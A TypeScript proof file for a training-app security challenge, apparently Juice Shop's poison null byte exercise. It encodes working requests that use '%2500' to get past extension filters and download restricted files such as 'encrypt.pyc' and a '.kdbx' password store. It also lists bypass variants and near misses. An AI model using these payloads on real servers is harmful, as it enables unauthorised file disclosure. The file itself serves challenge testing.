import { type Attack, prove } from '@fruit/challenge-kit/proof'
import { fetchPoisoned, nearMissesOf, spellingsOf } from '../../weaknesses/poisoned-name/fetch-poisoned.ts'
import { challenge } from './challenge.ts'

const NAME = 'encrypt.pyc'
/** One further file of each kind that the folder does not serve. */
const OTHERS: readonly string[] = [
  'eastere.gg',
  'package.json.bak',
  'package-lock.json.bak',
  'coupons_2013.md.bak',
  'suspicious_errors.yml',
]

export const proof = prove(challenge, {
  exploit: (attacker) => fetchPoisoned(attacker, NAME),
  spellings: {
    ...spellingsOf(NAME),
    ...Object.fromEntries(
      OTHERS.map((name): [string, Attack] => [name, (attacker) => attacker.get(`/ftp/${name}%2500.md`)]),
    ),
  },
  nearMisses: {
    ...nearMissesOf(NAME),
    'a document that everybody gets anyway': (attacker) => attacker.get('/ftp/legal.md%2500.pdf'),
    'the confidential one, which needs no zero': (attacker) => attacker.get('/ftp/acquisitions.md%2500.md'),
    'the safe of the help desk': (attacker) => attacker.get('/ftp/incident-support.kdbx%2500.md'),
    'what lies in quarantine': (attacker) => attacker.get('/ftp/quarantine/juicy_malware_macos_64.url'),
  },
  bypasses: {
    'refuse-the-reported-name': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
    'cut-at-the-last-zero': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
  },
})
